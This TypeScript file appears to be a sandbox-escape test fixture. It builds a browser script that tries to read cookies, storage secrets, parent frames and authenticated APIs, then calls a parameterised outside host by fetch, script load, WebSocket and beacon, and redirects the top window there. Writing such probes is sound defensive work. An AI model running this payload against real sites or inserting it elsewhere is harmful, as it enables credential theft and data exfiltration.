// The script that tries everything a page can try against the application that shows it. The files it comes in are in
// `evilKinds.ts`.

/** What an attack got hold of, or how it was refused. */
export type Loot = Record<string, string>;

/**
 * The attack, as the text of a script: reads and writes cookies and storage, reads the API, asks for a refresh in five
 * ways, calls `outside`, leaves its frame, opens windows, registers workers. `#…` names an address to steal from.
 */
export function attack(outside: string): string {
  return `(function () {
  "use strict";
  window.__began = true;
  var loot = window.__loot = {};
  function attempt(name, act) {
    var wait;
    try { wait = Promise.resolve(act()); } catch (error) { wait = Promise.reject(error); }
    var late = new Promise(function (_, no) { setTimeout(function () { no({ name: "Late" }); }, 1500); });
    return Promise.race([wait, late]).then(
      function (value) { loot[name] = "got " + String(value).slice(0, 200); },
      function (error) { loot[name] = "refused: " + (error && error.name); });
  }
  function loads(name, url) {
    return new Promise(function (yes, no) {
      var element = document.createElementNS("http://www.w3.org/1999/xhtml", name);
      element.onload = function () { yes(url); };
      element.onerror = function () { no({ name: "NotLoaded" }); };
      element.src = url;
      (document.body || document.documentElement).appendChild(element);
    });
  }
  function text(answer) { return answer.text(); }
  var app = location.protocol + "//" + location.host;
  var stolen = decodeURIComponent(location.hash.slice(1));
  window.__done = Promise.all([
    attempt("cookie", function () { document.cookie = "evil=1; path=/"; return document.cookie || "nothing"; }),
    attempt("storage", function () { localStorage.setItem("evil", "1"); return localStorage.getItem("greenroom.secret") || "nothing"; }),
    attempt("session", function () { sessionStorage.setItem("evil", "1"); return "nothing"; }),
    attempt("database", function () { return indexedDB.open("evil") && new Promise(function (yes, no) { var r = indexedDB.open("evil"); r.onsuccess = function () { yes("opened"); }; r.onerror = function () { no({ name: "NotOpened" }); }; }); }),
    attempt("caches", function () { return caches.open("evil"); }),
    attempt("parent", function () { if (window.parent === window) throw { name: "Alone" }; return window.parent.document.title; }),
    attempt("parentStorage", function () { if (window.parent === window) throw { name: "Alone" }; return window.parent.localStorage.length; }),
    attempt("opener", function () { if (!window.opener) throw { name: "Alone" }; return window.opener.document.title; }),
    attempt("api", function () { return fetch(app + "/api/sync").then(text); }),
    attempt("apiWithCookies", function () { return fetch(app + "/api/runs", { credentials: "include" }).then(text); }),
    attempt("apiBlind", function () { return fetch(app + "/api/runs", { mode: "no-cors" }).then(function (answer) { return answer.type; }); }),
    attempt("apiXhr", function () { return new Promise(function (yes, no) { var x = new XMLHttpRequest(); x.open("GET", app + "/api/workflows"); x.onload = function () { yes(x.responseText); }; x.onerror = function () { no({ name: "NotLoaded" }); }; x.send(); }); }),
    attempt("apiScript", function () { return loads("script", app + "/api/workflows"); }),
    attempt("appScript", function () { return loads("script", app + "/assets/index.js"); }),
    attempt("appFrame", function () { var frame = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe"); frame.src = app + "/"; (document.body || document.documentElement).appendChild(frame); return new Promise(function (yes) { frame.onload = function () { yes(frame.contentDocument.title); }; }); }),
    attempt("events", function () { return new Promise(function (yes, no) { var s = new EventSource(app + "/api/events"); s.onopen = function () { yes("open"); }; s.onerror = function () { s.close(); no({ name: "NotOpened" }); }; }); }),
    attempt("post", function () { return fetch(app + "/api/refresh", { method: "POST" }).then(text); }),
    attempt("postBlind", function () { return fetch(app + "/api/refresh", { method: "POST", mode: "no-cors", body: "x", keepalive: true }).then(function (answer) { return answer.type; }); }),
    attempt("other", function () { if (!stolen) throw { name: "Unknown" }; return fetch(app + stolen).then(text); }),
    attempt("otherImage", function () { if (!stolen) throw { name: "Unknown" }; return loads("img", app + stolen); }),
    attempt("otherFrame", function () { if (!stolen) throw { name: "Unknown" }; var frame = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe"); frame.src = app + stolen; (document.body || document.documentElement).appendChild(frame); return new Promise(function (yes) { frame.onload = function () { yes(frame.contentDocument.body.textContent); }; }); }),
    attempt("outside", function () { return fetch("${outside}/fetch", { mode: "no-cors" }).then(function (answer) { return answer.type; }); }),
    attempt("outsideImage", function () { return loads("img", "${outside}/image.png"); }),
    attempt("outsideScript", function () { return loads("script", "${outside}/script.js"); }),
    attempt("outsideSocket", function () { return new Promise(function (yes, no) { var s = new WebSocket("${outside}/socket".replace("http", "ws")); s.onopen = function () { yes("open"); }; s.onerror = function () { no({ name: "NotOpened" }); }; }); }),
    attempt("worker", function () { return navigator.serviceWorker.register("sw.js"); }),
    attempt("sharedWorker", function () { return new Promise(function (yes, no) { var w = new SharedWorker("sw.js"); w.onerror = function () { no({ name: "NotStarted" }); }; w.port.onmessage = function () { yes("started"); }; }); }),
    attempt("clipboard", function () { return navigator.clipboard.readText(); }),
    attempt("position", function () { return new Promise(function (yes, no) { navigator.geolocation.getCurrentPosition(yes, no); }); })
  ]).then(function () {
    try { navigator.sendBeacon(app + "/api/refresh", "x"); } catch (error) { loot.beacon = "refused: " + error.name; }
    try { navigator.sendBeacon("${outside}/beacon", "x"); } catch (error) { loot.outsideBeacon = "refused: " + error.name; }
    try { if (window.top !== window) window.top.location.href = "${outside}/top"; } catch (error) { loot.top = "refused: " + error.name; }
    return loot;
  });
})();`;
}
